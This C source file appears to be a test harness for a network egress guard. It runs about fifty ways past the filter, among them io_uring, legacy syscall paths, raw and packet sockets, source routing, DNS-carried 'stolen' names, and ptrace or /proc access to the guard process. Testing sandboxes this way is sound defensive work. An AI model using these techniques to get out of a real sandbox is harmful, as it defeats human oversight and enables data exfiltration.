/* Ways past an egress guard. `bypass V4 V6 BASE ALLOWED OWN RESOLVER ALLOWED6` runs each attempt in a child of its own;
 * attempt number n aims at port BASE+n, so that packets seen on the wire tell which one it was.
 * Prints "NUMBER NAME RESULT" lines; `bypass names` prints the names alone. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_in v4, allowed, own, resolver;
static struct sockaddr_in6 v6;
static char **arguments;
static pid_t guard;

static int done(int result) { return result < 0 ? errno : 0; }

static int tcp(void) { return socket(AF_INET, SOCK_STREAM, 0); }
static int udp(void) { return socket(AF_INET, SOCK_DGRAM, 0); }

static int connect4(void) { return done(connect(tcp(), (void *)&v4, sizeof v4)); }
static int connect6(void) {
    return done(connect(socket(AF_INET6, SOCK_STREAM, 0), (void *)&v6, sizeof v6));
}
static int connect_mapped(void) {
    struct sockaddr_in6 mapped = {.sin6_family = AF_INET6, .sin6_port = v4.sin_port};
    mapped.sin6_addr.s6_addr[10] = mapped.sin6_addr.s6_addr[11] = 0xff;
    memcpy(mapped.sin6_addr.s6_addr + 12, &v4.sin_addr, 4);
    return done(connect(socket(AF_INET6, SOCK_STREAM, 0), (void *)&mapped, sizeof mapped));
}
static int connect_nonblocking(void) {
    int one = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    int result = done(connect(one, (void *)&v4, sizeof v4));
    usleep(50000);
    return result;
}
static int connect_high_bits(void) { /* the kernel ignores the upper halves of int arguments */
    long dirty = 0x7fffffff00000000L;
    return done(syscall(SYS_connect, dirty | tcp(), &v4, dirty | sizeof v4));
}
static int connect_long(void) {
    char big[128] = {0};
    memcpy(big, &v4, sizeof v4);
    return done(connect(tcp(), (void *)big, sizeof big));
}
static int connect_protocol(void) {
    return done(connect(socket(AF_INET, SOCK_STREAM, IPPROTO_TCP), (void *)&v4, sizeof v4));
}
static int fast_open_sendto(void) {
    return done(sendto(tcp(), "x", 1, MSG_FASTOPEN, (void *)&v4, sizeof v4));
}
static struct msghdr *message(void) {
    static struct iovec vector = {"x", 1};
    static struct msghdr header;
    header = (struct msghdr){.msg_name = &v4, .msg_namelen = sizeof v4, .msg_iov = &vector,
                             .msg_iovlen = 1};
    return &header;
}
static int fast_open_sendmsg(void) { return done(sendmsg(tcp(), message(), MSG_FASTOPEN)); }
static int fast_open_sendmmsg(void) {
    struct mmsghdr many = {.msg_hdr = *message()};
    return done(sendmmsg(tcp(), &many, 1, MSG_FASTOPEN));
}
static int fast_open_option(void) {
    int one = tcp(), on = 1;
    setsockopt(one, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    int result = done(connect(one, (void *)&v4, sizeof v4));
    send(one, "x", 1, MSG_NOSIGNAL);
    return result;
}
static int udp_sendto(void) { return done(sendto(udp(), "x", 1, 0, (void *)&v4, sizeof v4)); }
static int udp_sendmsg(void) { return done(sendmsg(udp(), message(), 0)); }
static int udp_sendmmsg(void) {
    struct mmsghdr many = {.msg_hdr = *message()};
    return done(sendmmsg(udp(), &many, 1, 0));
}
static int udp_connected(void) {
    int one = udp(), result = done(connect(one, (void *)&v4, sizeof v4));
    return result ? result : done(send(one, "x", 1, 0));
}
static int udp6_sendto(void) {
    return done(sendto(socket(AF_INET6, SOCK_DGRAM, 0), "x", 1, 0, (void *)&v6, sizeof v6));
}
static int udp_unspecified(void) { /* the kernel takes AF_UNSPEC for AF_INET in sendto() */
    struct sockaddr_in odd = v4;
    odd.sin_family = AF_UNSPEC;
    return done(sendto(udp(), "x", 1, 0, (void *)&odd, sizeof odd));
}
static int udp_packet_info(void) {
    char control[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
    struct msghdr *header = message();
    header->msg_control = control;
    header->msg_controllen = sizeof control;
    struct cmsghdr *item = CMSG_FIRSTHDR(header);
    item->cmsg_level = IPPROTO_IP;
    item->cmsg_type = IP_PKTINFO;
    item->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
    struct in_pktinfo *info = (void *)CMSG_DATA(item);
    info->ipi_ifindex = 2;
    for (int device = 2; device < 6; device++) {
        info->ipi_ifindex = device;
        sendmsg(udp(), header, 0);
    }
    return 0;
}
static int udp_undo_lock(void) {
    int one = udp(), off = 0;
    setsockopt(one, SOL_SOCKET, SO_DONTROUTE, &off, sizeof off);
    setsockopt(one, SOL_SOCKET, SO_BINDTODEVICE, "", 0);
    return done(sendto(one, "x", 1, 0, (void *)&v4, sizeof v4));
}
static int udp_lite(void) {
    return done(sendto(socket(AF_INET, SOCK_DGRAM, 136), "x", 1, 0, (void *)&v4, sizeof v4));
}
static int mptcp(void) {
    return done(connect(socket(AF_INET, SOCK_STREAM, 262), (void *)&v4, sizeof v4));
}
static int sctp(void) {
    return done(connect(socket(AF_INET, SOCK_STREAM, 132), (void *)&v4, sizeof v4));
}
static int raw_udp(void) { /* a whole UDP packet by hand */
    unsigned char packet[9] = {0, 9, 0, 0, 0, 9, 0, 0, 'x'};
    memcpy(packet + 2, &v4.sin_port, 2);
    struct sockaddr_in to = v4;
    to.sin_port = 0;
    return done(sendto(socket(AF_INET, SOCK_RAW, IPPROTO_UDP), packet, sizeof packet, 0,
                       (void *)&to, sizeof to));
}
static int raw_icmp(void) {
    struct icmphdr echo = {.type = ICMP_ECHO};
    return done(sendto(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), &echo, sizeof echo, 0,
                       (void *)&v4, sizeof v4));
}
static int ping_socket(void) {
    struct icmphdr echo = {.type = ICMP_ECHO};
    return done(sendto(socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP), &echo, sizeof echo, 0,
                       (void *)&v4, sizeof v4));
}
static int packet_socket(void) {
    int one = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (one < 0) return errno;
    unsigned char packet[29] = {0x45, 0, 0, 29, 0, 0, 0, 0, 9, 17};
    memcpy(packet + 16, &v4.sin_addr, 4);
    memcpy(packet + 12, &allowed.sin_addr, 4);
    memcpy(packet + 22, &v4.sin_port, 2);
    packet[25] = 9;
    int result = EPERM;
    for (int device = 2; device < 6; device++) {
        struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = device, .sll_halen = 6,
                                 .sll_protocol = htons(ETH_P_IP)};
        memset(to.sll_addr, 0xff, 6);
        if (sendto(one, packet, sizeof packet, 0, (void *)&to, sizeof to) > 0) result = 0;
    }
    return result;
}
static int source_route(void) { /* to an allowed address, by way of the forbidden one */
    unsigned char route[12] = {1, 131, 11, 4};
    int one = tcp();
    memcpy(route + 4, &v4.sin_addr, 4);
    memcpy(route + 8, &v4.sin_addr, 4);
    if (setsockopt(one, IPPROTO_IP, IP_OPTIONS, route, sizeof route)) return errno;
    struct sockaddr_in to = allowed;
    to.sin_port = v4.sin_port;
    fcntl(one, F_SETFL, O_NONBLOCK);
    int result = done(connect(one, (void *)&to, sizeof to));
    usleep(50000);
    return result;
}
static int uring_connect(void) {
    struct io_uring_params made = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &made);
    if (ring < 0) return errno;
    char *sq = mmap(0, made.sq_off.array + made.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED,
                    ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entry = mmap(0, made.sq_entries * sizeof *entry, PROT_READ | PROT_WRITE,
                                      MAP_SHARED, ring, IORING_OFF_SQES);
    *entry = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = tcp(),
                                   .addr = (uint64_t)(uintptr_t)&v4, .off = sizeof v4};
    ((unsigned *)(sq + made.sq_off.array))[0] = 0;
    *(volatile unsigned *)(sq + made.sq_off.tail) = 1;
    return done(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0));
}
static int call_32_bit(void) {
#ifdef __x86_64__
    int result;
    long *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    unsigned *words = (unsigned *)low;
    memcpy(words + 8, &v4, sizeof v4);
    words[0] = AF_INET, words[1] = SOCK_STREAM, words[2] = 0;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(102), "b"(1), "c"(low) : "memory");
    if (result < 0) return -result;
    words[0] = result, words[1] = (unsigned)(uintptr_t)(words + 8), words[2] = sizeof v4;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(102), "b"(3), "c"(low) : "memory");
    return result < 0 ? -result : 0;
#else
    return ENOSYS;
#endif
}
static int call_x32(void) {
#ifdef __x86_64__
    return done(syscall(SYS_connect | 0x40000000, tcp(), &v4, sizeof v4));
#else
    return ENOSYS;
#endif
}
static int daemonized(void) {
    int pipes[2], result = 0;
    if (pipe(pipes)) return errno;
    if (!fork()) {
        setsid();
        if (!fork()) {
            result = connect4();
            _exit(write(pipes[1], &result, sizeof result) < 0);
        }
        _exit(0);
    }
    return read(pipes[0], &result, sizeof result) < 0 ? errno : result;
}
static void *in_thread(void *result) {
    unshare(CLONE_FILES);
    *(int *)result = connect4();
    return 0;
}
static int threaded(void) {
    pthread_t thread;
    int result = 0;
    pthread_create(&thread, 0, in_thread, &result);
    pthread_join(thread, 0);
    return result;
}
static int user_namespace(void) { return unshare(CLONE_NEWUSER) ? errno : connect4(); }
static int raw_in_user_namespace(void) { return unshare(CLONE_NEWUSER) ? errno : raw_udp(); }
static int passed_by_message(void) {
    int pair[2], result = 0;
    socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
    char control[CMSG_SPACE(sizeof(int))] = {0};
    char byte = 'x';
    struct iovec vector = {&byte, 1};
    struct msghdr header = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control,
                            .msg_controllen = sizeof control};
    if (!fork()) {
        recvmsg(pair[1], &header, 0);
        result = done(connect(*(int *)CMSG_DATA(CMSG_FIRSTHDR(&header)), (void *)&v4, sizeof v4));
        _exit(result);
    }
    struct cmsghdr *item = CMSG_FIRSTHDR(&header);
    *item = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
    *(int *)CMSG_DATA(item) = tcp();
    sendmsg(pair[0], &header, 0);
    wait(&result);
    return WEXITSTATUS(result);
}
static int accepted_again(void) { /* dissolve an accepted connection, and connect it elsewhere */
    int listening = tcp(), caller = tcp();
    struct sockaddr_in here = own;
    socklen_t length = sizeof here;
    bind(listening, (void *)&here, sizeof here);
    listen(listening, 1);
    getsockname(listening, (void *)&here, &length);
    if (connect(caller, (void *)&here, sizeof here)) return errno;
    int one = accept(listening, 0, 0);
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    connect(one, &none, sizeof none);
    return done(connect(one, (void *)&v4, sizeof v4));
}
static int reconnected(void) { /* connect to an allowed place first */
    int one = tcp();
    connect(one, (void *)&allowed, sizeof allowed);
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    connect(one, &none, sizeof none);
    return done(connect(one, (void *)&v4, sizeof v4));
}
static int own_filter(void) {
    struct sock_filter all = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog program = {1, &all};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
    return connect4();
}
static int other_user(void) { /* without exec, so the process hides its memory from then on */
    if (setgid(33) || setuid(33)) perror("setuid");
    return connect4();
}
static int hidden_memory(void) {
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    return connect4();
}
static int executed_from_memory(void) {
    int copy = memfd_create("bypass", 0), self = open("/proc/self/exe", O_RDONLY), result;
    char buffer[65536];
    for (ssize_t got; (got = read(self, buffer, sizeof buffer)) > 0;)
        if (write(copy, buffer, got) != got) return EIO;
    if (!fork()) {
        char port[16];
        snprintf(port, sizeof port, "%d", ntohs(v4.sin_port));
        char *again[] = {"bypass", "connect", arguments[1], port, 0};
        fexecve(copy, again, environ);
        _exit(99);
    }
    wait(&result);
    return WEXITSTATUS(result);
}
static int denied_port(void) { /* of an allowed host */
    struct sockaddr_in to = allowed;
    to.sin_port = htons(ntohs(v4.sin_port) + 1000);
    return done(connect(tcp(), (void *)&to, sizeof to));
}
static int denied_port_udp(void) {
    struct sockaddr_in to = allowed;
    to.sin_port = htons(ntohs(v4.sin_port) + 1000);
    return done(sendto(udp(), "x", 1, 0, (void *)&to, sizeof to));
}
static int allowed_port_udp(void) { /* a rule is about TCP */
    struct sockaddr_in to = allowed;
    to.sin_port = v4.sin_port;
    return done(sendto(udp(), "x", 1, 0, (void *)&to, sizeof to));
}
static const char question[] = "\0\7\1\0\0\1\0\0\0\0\0\0\6stolen\7example\0\0\1\0\1";
static int resolver_udp(void) { /* carry something out by a name */
    return done(sendto(udp(), question, sizeof question - 1, 0, (void *)&resolver,
                       sizeof resolver));
}
static int resolver_tcp(void) {
    int one = tcp();
    char answer[512], framed[2 + sizeof question - 1] = {0, sizeof question - 1};
    memcpy(framed + 2, question, sizeof question - 1);
    if (connect(one, (void *)&resolver, sizeof resolver)) return errno;
    if (send(one, framed, sizeof framed, MSG_NOSIGNAL) < 0) return errno;
    return recv(one, answer, sizeof answer, 0) > 5 && (answer[5] & 15) ? ENOENT : 0;
}
static int routing_header(void) { /* to an allowed address, by way of the forbidden one */
    struct { unsigned char head[8]; struct in6_addr hops[2]; } route = {{0, 4, 4, 1, 1}};
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = v6.sin6_port};
    inet_pton(AF_INET6, arguments[7], &to.sin6_addr);
    route.hops[0] = to.sin6_addr;
    route.hops[1] = v6.sin6_addr;
    int one = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (setsockopt(one, IPPROTO_IPV6, 57, &route, sizeof route)) return errno;
    int result = done(connect(one, (void *)&to, sizeof to));
    usleep(50000);
    return result;
}
static int vsock(void) { /* to the machine's own host */
    struct { unsigned short family, zero; unsigned port, cid, more; } to = {40, 0, 1234, 2, 0};
    int one = socket(40, SOCK_STREAM, 0);
    return one < 0 ? errno : done(connect(one, (void *)&to, sizeof to));
}
static int kernel_crypto(void) { return done(socket(38, SOCK_SEQPACKET, 0)); }
static int dccp(void) {
    int one = socket(AF_INET, 6, 33);
    return one < 0 ? errno : done(connect(one, (void *)&v4, sizeof v4));
}
static int key_request(void) { /* has the kernel look a name up */
    return done(syscall(SYS_request_key, "dns_resolver", "stolen.example", "", 0));
}
static int bpf_call(void) {
    char attributes[128] = {0};
    return done(syscall(SYS_bpf, 0, attributes, sizeof attributes));
}
static int guard_itself(void) { /* look into the guard, or borrow a descriptor of it */
    char path[64];
    if (!getenv("GUARDED")) return connect4();
    snprintf(path, sizeof path, "/proc/%d/mem", guard);
    if (open(path, O_RDWR) >= 0) return 0;
    if (ptrace(PTRACE_ATTACH, guard, 0, 0) == 0) return 0;
    if (syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, guard, 0), 3, 0) >= 0) return 0;
    return connect4();
}

static const struct { const char *name; int (*run)(void); } attempts[] = {
#define ATTEMPT(name) {#name, name}
    ATTEMPT(connect4), ATTEMPT(connect6), ATTEMPT(connect_mapped), ATTEMPT(connect_nonblocking),
    ATTEMPT(connect_high_bits), ATTEMPT(connect_long), ATTEMPT(connect_protocol),
    ATTEMPT(fast_open_sendto), ATTEMPT(fast_open_sendmsg), ATTEMPT(fast_open_sendmmsg),
    ATTEMPT(fast_open_option), ATTEMPT(udp_sendto), ATTEMPT(udp_sendmsg), ATTEMPT(udp_sendmmsg),
    ATTEMPT(udp_connected), ATTEMPT(udp6_sendto), ATTEMPT(udp_unspecified),
    ATTEMPT(udp_packet_info), ATTEMPT(udp_undo_lock), ATTEMPT(udp_lite), ATTEMPT(mptcp),
    ATTEMPT(sctp), ATTEMPT(raw_udp), ATTEMPT(raw_icmp), ATTEMPT(ping_socket),
    ATTEMPT(packet_socket), ATTEMPT(source_route), ATTEMPT(uring_connect), ATTEMPT(call_32_bit),
    ATTEMPT(call_x32), ATTEMPT(daemonized), ATTEMPT(threaded), ATTEMPT(user_namespace),
    ATTEMPT(raw_in_user_namespace), ATTEMPT(passed_by_message), ATTEMPT(accepted_again),
    ATTEMPT(reconnected), ATTEMPT(own_filter), ATTEMPT(other_user), ATTEMPT(hidden_memory),
    ATTEMPT(executed_from_memory), ATTEMPT(guard_itself), ATTEMPT(denied_port),
    ATTEMPT(denied_port_udp), ATTEMPT(allowed_port_udp), ATTEMPT(resolver_udp),
    ATTEMPT(resolver_tcp), ATTEMPT(routing_header), ATTEMPT(vsock), ATTEMPT(kernel_crypto),
    ATTEMPT(dccp), ATTEMPT(key_request), ATTEMPT(bpf_call),
};

static void aim(const char *four, const char *six, int port) {
    v4 = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(port)};
    v6 = (struct sockaddr_in6){.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET, four, &v4.sin_addr);
    inet_pton(AF_INET6, six, &v6.sin6_addr);
}

/* The guard has a shorter way for threads that it answered before: let that be attacked. */
static void become_known(void) {
    struct sockaddr_in nobody = {.sin_family = AF_INET, .sin_port = htons(1)};
    inet_pton(AF_INET, "127.0.0.1", &nobody.sin_addr);
    int one = tcp();
    connect(one, (void *)&nobody, sizeof nobody);
    close(one);
}

int main(int count, char **given) {
    int number = sizeof attempts / sizeof *attempts;
    arguments = given;
    guard = getppid();
    signal(SIGPIPE, SIG_IGN);
    if (count == 4 && !strcmp(given[1], "connect")) {
        aim(given[2], "::", atoi(given[3]));
        return connect4();
    }
    for (int i = 0; i < number; i++) {
        if (count < 8) {
            puts(attempts[i].name);
            continue;
        }
        aim(given[1], given[2], atoi(given[3]) + i);
        allowed = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80)};
        inet_pton(AF_INET, given[4], &allowed.sin_addr);
        resolver = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(53)};
        inet_pton(AF_INET, given[6], &resolver.sin_addr);
        own = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = v4.sin_port};
        inet_pton(AF_INET, given[5], &own.sin_addr);
        fflush(stdout);
        pid_t child = fork();
        if (!child) {
            alarm(5);
            become_known();
            _exit(attempts[i].run());
        }
        int status;
        waitpid(child, &status, 0);
        const char *said = WIFSIGNALED(status) ? strsignal(WTERMSIG(status))
                                               : strerror(WEXITSTATUS(status));
        printf("%d %s %s\n", i, attempts[i].name, said);
    }
    return 0;
}
